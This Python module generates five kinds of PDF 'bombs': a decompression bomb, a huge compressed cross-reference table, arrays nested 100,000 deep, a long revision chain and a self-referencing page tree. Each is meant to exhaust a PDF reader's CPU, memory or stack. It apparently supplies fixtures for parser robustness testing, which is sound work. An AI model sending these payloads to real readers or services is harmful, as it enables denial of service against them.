"""PDFs that are small, and take all that their reader has."""

import zlib
from collections.abc import Callable
from typing import Final

_CATALOG: Final = b"1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj\n"
_PAGES: Final = b"2 0 obj<</Type/Pages/Count %d/Kids[%s]>>endobj\n"
_HEAD: Final = b"%PDF-1.7\n"


def endless() -> bytes:
    """Return 40 KB whose table of objects has ten million entries: a quarter of a minute of CPU time."""
    return _with_table(bytes(40_000_000), layers=1)


def swollen() -> bytes:
    """Return a few KB that become more than a gigabyte when they are unpacked."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    packed = b"".join(packer.compress(piece) for _ in range(1_500)) + packer.flush()
    return _with_packed(zlib.compress(packed, 9), layers=2, entries=400_000_000)


def nested() -> bytes:
    """Return arrays within arrays, deeper than any stack."""
    return _plain(_CATALOG % (b"/Deep " + b"[" * 100_000 + b"]" * 100_000), _PAGES % (0, b""))


def revised(times: int = 400) -> bytes:
    """Return a file that was saved again and again, by a chain of tables that the last one names."""
    pdf = _plain(_CATALOG % b"", _PAGES % (0, b""))
    before = pdf.rindex(b"xref\n0")
    for _ in range(times):
        at = len(pdf)
        pdf += b"xref\n0 0\ntrailer<</Size 3/Root 1 0 R/Prev %d>>\n" % before
        before = at
    return pdf + b"startxref\n%d\n%%%%EOF\n" % before


def paged() -> bytes:
    """Return a file with a million pages, all of them its own tree of pages again."""
    return _plain(_CATALOG % b"", _PAGES % (1_000_000, b"2 0 R " * 100_000))


BOMBS: Final[dict[str, Callable[[], bytes]]] = {
    made.__name__: made for made in (endless, swollen, nested, revised, paged)
}


def _plain(catalog: bytes, pages: bytes) -> bytes:
    body = _HEAD + catalog
    places = (len(_HEAD), len(body))
    body += pages
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 3\n0000000000 65535 f \n" + rows + b"trailer<</Size 3/Root 1 0 R>>\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _with_table(table: bytes, *, layers: int) -> bytes:
    return _with_packed(zlib.compress(table, 9), layers=layers, entries=len(table) // 4)


def _with_packed(packed: bytes, *, layers: int, entries: int) -> bytes:
    body = _HEAD + _CATALOG % b"" + _PAGES % (0, b"")
    filters = b"/FlateDecode" * layers
    stream = b"3 0 obj<</Type/XRef/Size %d/W[1 2 1]/Root 1 0 R/Filter[%s]/Length %d>>stream\n"
    table = stream % (entries, filters, len(packed)) + packed + b"\nendstream endobj\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)
